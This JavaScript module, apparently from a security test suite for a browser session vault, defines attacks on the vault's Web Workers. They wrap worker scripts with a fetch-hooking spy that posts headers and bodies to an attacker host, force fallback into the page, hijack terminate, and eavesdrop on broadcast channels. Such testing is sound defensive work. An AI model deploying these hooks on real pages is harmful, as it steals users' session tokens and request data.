// The worker that the vault lives in, and other workers.
import { pristine, scriptOf, wait } from '../kit.mjs';
import { inClosure, whenever } from '../reasons.mjs';
import { FILES, forged, WASM } from '../wire.mjs';

/** The URL of a worker script that spies on `url`, which it loads. */
const spying = (url, attacker) => {
  const spy = `
    const send = (what) => real('${attacker}', { method: 'POST', body: String(what) });
    const real = fetch;
    globalThis.fetch = async (...args) => {
      const request = args[0] instanceof Request ? args[0].clone() : new Request(...args);
      send([...request.headers]);
      send(await request.clone().text());
      const response = await real(...args);
      response.clone().text().then(send);
      return response;
    };`;
  return scriptOf(`import '${scriptOf(spy)}';\nimport '${url}';`);
};

/** An attack that has workers of a kind load a script of the attacker's around their own. */
const wrapping = (id, name, placement) => ({
  id,
  title: `replaces ${name}, and wraps the vault’s script in one of its own`,
  when: 'both',
  async run({ hooks, config, record, victim }) {
    hooks.instead(
      window,
      name,
      (Original) =>
        class extends Original {
          constructor(url, options) {
            super(spying(String(url), config.attacker), options);
            record(this);
          }
        },
    );
    await victim();
    await wait(100);
  },
  lost: { before: { [placement]: 'first' } },
});

/** Gives a worker a port as the package does, and sends forged messages on it. */
function talkTo(worker, record) {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = worker.onmessage = ({ data }) => record(data);
  worker.postMessage(WASM, [port2]);
  for (const message of forged()) port1.postMessage(message);
}

export const workers = [
  wrapping('worker-constructor', 'Worker', 'worker'),
  wrapping('shared-worker-constructor', 'SharedWorker', 'shared'),
  {
    id: 'worker-refused',
    title:
      'makes Worker and SharedWorker fail, so that the vault may fall back into the page, and replaces fetch there',
    when: 'both',
    async run({ hooks, victim, record }) {
      for (const name of ['Worker', 'SharedWorker']) {
        hooks.replace(window, name, {
          writable: true,
          value() {
            throw new Error('no workers today');
          },
        });
      }
      hooks.tap(window, 'fetch', ({ args }) => record(args[0]));
      await victim();
    },
    disturbs: true,
    lost: whenever(inClosure('hooks')),
  },
  {
    id: 'worker-terminate',
    title: 'closes the session, takes hold of its Worker as it is terminated, and talks to it',
    when: 'after',
    async run({ hooks, session, record }) {
      hooks.instead(
        Worker.prototype,
        'terminate',
        (terminate) =>
          function () {
            talkTo(this, record);
            pristine.setTimeout(() => Reflect.apply(terminate, this, []), 400);
          },
      );
      (await session()).close();
      await wait(400);
    },
  },
  {
    id: 'worker-own',
    title: 'starts workers of its own from the package’s scripts, and asks them for the session',
    when: 'after',
    async run({ record, undo, victim }) {
      for (const file of ['worker.js', 'vault.js', 'shared.js']) {
        const worker = new Worker(FILES + file, { type: 'module', name: 'strongroom' });
        undo(() => worker.terminate());
        talkTo(worker, record);
      }
      await victim();
      await wait(200);
    },
  },
  {
    id: 'worker-spy',
    title: 'starts a worker of its own that listens to every channel and reads every database',
    when: 'both',
    async run({ record, undo, victim }) {
      const spy = () => {
        const heard = ['strongroom', 'strongroom:callback', 'strongroom:logout'].map(
          (name) => new BroadcastChannel(name),
        );
        for (const channel of heard) channel.onmessage = ({ data }) => postMessage(JSON.stringify(data));
        globalThis.onmessage = () => postMessage(JSON.stringify(performance.getEntries()));
        navigator.locks.query().then((locks) => postMessage(JSON.stringify(locks)));
      };
      const url = scriptOf(`(${spy})()`);
      const worker = new Worker(url);
      undo(() => worker.terminate());
      worker.onmessage = ({ data }) => record(data);
      await victim();
      worker.postMessage('report');
      await wait(100);
    },
  },
];
